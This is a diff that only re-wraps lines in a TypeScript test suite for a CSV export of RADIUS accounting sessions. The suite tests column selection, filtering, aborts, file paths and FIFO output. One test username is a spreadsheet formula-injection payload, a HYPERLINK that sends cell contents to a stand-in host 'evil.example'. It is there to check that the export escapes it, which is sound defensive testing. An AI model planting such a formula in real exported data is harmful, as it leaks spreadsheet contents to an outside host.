@@ -3,7 +3,20 @@
  * embedded PGlite, through `pg` either way. Every CSV is read back with an independent RFC 4180 parser.
  */
 import {execFileSync} from 'node:child_process';
-import {createReadStream, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync} from 'node:fs';
+import {
+	createReadStream,
+	existsSync,
+	lstatSync,
+	mkdirSync,
+	mkdtempSync,
+	readdirSync,
+	readFileSync,
+	readlinkSync,
+	rmSync,
+	statSync,
+	symlinkSync,
+	writeFileSync,
+} from 'node:fs';
 import {tmpdir} from 'node:os';
 import {join} from 'node:path';
 import {PassThrough, Writable} from 'node:stream';
@@ -42,7 +55,11 @@ class Sink extends Writable {
 	}
 }
 
-async function exported(filter: SessionFilter, sort: SessionSort, options: ExportOptions = {}): Promise<{rows: number; records: string[][]}> {
+async function exported(
+	filter: SessionFilter,
+	sort: SessionSort,
+	options: ExportOptions = {},
+): Promise<{rows: number; records: string[][]}> {
 	const sink = new Sink();
 	const result = await exportSessions(database.pool, filter, sort, options, sink);
 	return {rows: result.rows, records: parseCsv(sink.text)};
@@ -60,10 +77,22 @@ beforeAll(async () => {
 	await database.pool.query("INSERT INTO nas (nasname, shortname, type, secret) VALUES ('10.20.0.1', 'bng-1', 'other', 's3cret')");
 	ids = await insertSessions(database.pool, [
 		{username: 'alice', startedAgo: 7200, updatedAgo: 60, acctinterval: 300, acctinputoctets: 1000, acctoutputoctets: 5000},
-		{username: '=HYPERLINK("http://evil.example/?"&A1,"help")', startedAgo: 7000, framedipaddress: '100.64.0.2', callingstationid: '+33 1 23'},
+		{
+			username: '=HYPERLINK("http://evil.example/?"&A1,"help")',
+			startedAgo: 7000,
+			framedipaddress: '100.64.0.2',
+			callingstationid: '+33 1 23',
+		},
 		{username: 'bob, "the builder"', startedAgo: 6900, callingstationid: '-AA:BB', nasipaddress: '10.20.0.9'},
 		{username: 'line\r\nbreak', startedAgo: 6800, callingstationid: '@home', acctterminatecause: null},
-		{username: 'carol', startedAgo: 6700, stoppedAgo: 600, acctterminatecause: 'User-Request', framedipaddress: null, callingstationid: null},
+		{
+			username: 'carol',
+			startedAgo: 6700,
+			stoppedAgo: 600,
+			acctterminatecause: 'User-Request',
+			framedipaddress: null,
+			callingstationid: null,
+		},
 		{username: '\tdave', startedAgo: 6600, stoppedAgo: 300, acctterminatecause: '\rLost-Carrier'},
 		{username: 'stale-eve', startedAgo: 90_000, updatedAgo: 80_000, acctinterval: null},
 	]);
@@ -145,7 +174,9 @@ describe('exportSessions', () => {
 	});
 
 	it('takes columns in the order given, including radacct columns beyond the default', async () => {
-		const {records} = await exported({status: 'active', search: 'alice'}, BY_ID, {columns: ['username', 'acctinterval', 'acctoutputoctets', 'nasporttype']});
+		const {records} = await exported({status: 'active', search: 'alice'}, BY_ID, {
+			columns: ['username', 'acctinterval', 'acctoutputoctets', 'nasporttype'],
+		});
 		expect(records).toEqual([
 			['username', 'acctinterval', 'acctoutputoctets', 'nasporttype'],
 			['alice', '300', HUGE_OCTETS, 'Ethernet'],
@@ -154,7 +185,7 @@ describe('exportSessions', () => {
 
 	it('applies the filters and the sort of radtop sessions', async () => {
 		const closed = await exported({status: 'closed'}, {key: 'user', direction: 'asc'}, {columns: ['username']});
-		expect(closed.records).toEqual([['username'], ['\'\tdave'], ['carol']]);
+		expect(closed.records).toEqual([['username'], ["'\tdave"], ['carol']]);
 		const nas = await exported({status: 'all', nasIps: ['10.20.0.9']}, BY_ID, {columns: ['radacctid']});
 		expect(nas.records).toEqual([['radacctid'], [ids[2]]]);
 		const window = await exported(
@@ -191,7 +222,10 @@ describe('exportSessions', () => {
 			await insertOlder(older);
 			const sink = new Sink();
 			await exportSessions(older.pool, ALL, BY_ID, {columns: ['username', 'class', 'framedipv6address', 'state']}, sink);
-			expect(parseCsv(sink.text)).toEqual([['username', 'class', 'framedipv6address', 'state'], ['old', '', '', 'online']]);
+			expect(parseCsv(sink.text)).toEqual([
+				['username', 'class', 'framedipv6address', 'state'],
+				['old', '', '', 'online'],
+			]);
 		} finally {
 			await older.close();
 		}
@@ -234,7 +268,9 @@ describe('exportSessions', () => {
 			if (seen > 64 * 1024) abort.abort();
 		});
 		const filter: SessionFilter = {status: 'closed', nasIps: ['10.30.0.1']};
-		await expect(exportSessions(database.pool, filter, BY_ID, {columns: ['username', 'acctuniqueid'], signal: abort.signal}, out)).rejects.toBeInstanceOf(ExportAbortedError);
+		await expect(
+			exportSessions(database.pool, filter, BY_ID, {columns: ['username', 'acctuniqueid'], signal: abort.signal}, out),
+		).rejects.toBeInstanceOf(ExportAbortedError);
 		expect((await database.pool.query('SELECT 1 AS ok')).rows[0].ok).toBe(1);
 		const already = new AbortController();
 		already.abort();
@@ -248,7 +284,9 @@ describe('exportSessions', () => {
 			},
 		});
 		failing.on('error', () => undefined);
-		await expect(exportSessions(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {}, failing)).rejects.toBeInstanceOf(ExportOutputError);
+		await expect(exportSessions(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {}, failing)).rejects.toBeInstanceOf(
+			ExportOutputError,
+		);
 		expect((await database.pool.query('SELECT 1 AS ok')).rows[0].ok).toBe(1);
 	});
 });
@@ -288,7 +326,13 @@ describe('exportSessionsToFile', () => {
 		await expect(exportSessionsToFile(database.pool, ALL, BY_ID, {limit: 1}, path)).rejects.toBeInstanceOf(ExportLimitError);
 		expect(readFileSync(path, 'utf8')).toBe('previous export\r\n');
 		const abort = new AbortController();
-		const aborted = exportSessionsToFile(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {signal: abort.signal, onProgress: () => abort.abort()}, path);
+		const aborted = exportSessionsToFile(
+			database.pool,
+			{status: 'closed', nasIps: ['10.30.0.1']},
+			BY_ID,
+			{signal: abort.signal, onProgress: () => abort.abort()},
+			path,
+		);
 		await expect(aborted).rejects.toBeInstanceOf(ExportAbortedError);
 		expect(readFileSync(path, 'utf8')).toBe('previous export\r\n');
 		expect(readdirSync(dir).filter((name) => name.includes('partial'))).toEqual([]);
@@ -298,11 +342,17 @@ describe('exportSessionsToFile', () => {
 		const sub = join(dir, 'a-directory');
 		mkdirSync(sub);
 		let connected = 0;
-		const counting = {...database.pool, query: database.pool.query.bind(database.pool), connect: async () => (connected++, database.pool.connect())};
+		const counting = {
+			...database.pool,
+			query: database.pool.query.bind(database.pool),
+			connect: async () => (connected++, database.pool.connect()),
+		};
 		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, sub)).rejects.toBeInstanceOf(ExportPathError);
 		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, `${sub}/`)).rejects.toThrow(/is a directory/);
 		// A trailing slash names a directory, even one that does not exist yet.
-		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, join(dir, 'no-such-dir/'))).rejects.toBeInstanceOf(ExportPathError);
+		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, join(dir, 'no-such-dir/'))).rejects.toBeInstanceOf(
+			ExportPathError,
+		);
 		expect(connected).toBe(0);
 		expect(readdirSync(sub)).toEqual([]);
 		expect(readdirSync(dir).filter((name) => name.includes('partial'))).toEqual([]);
@@ -337,7 +387,13 @@ describe('exportSessionsToFile', () => {
 	it('writes into a FIFO directly, waiting for its reader, with no temporary file', async () => {
 		const fifo = join(dir, 'export.fifo');
 		execFileSync('mkfifo', [fifo]);
-		const exporting = exportSessionsToFile(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {columns: ['username']}, fifo);
+		const exporting = exportSessionsToFile(
+			database.pool,
+			{status: 'closed', nasIps: ['10.30.0.1']},
+			BY_ID,
+			{columns: ['username']},
+			fifo,
+		);
 		// The reader comes later: the export waits for it.
 		await new Promise((resolve) => setTimeout(resolve, 300));
 		let text = '';
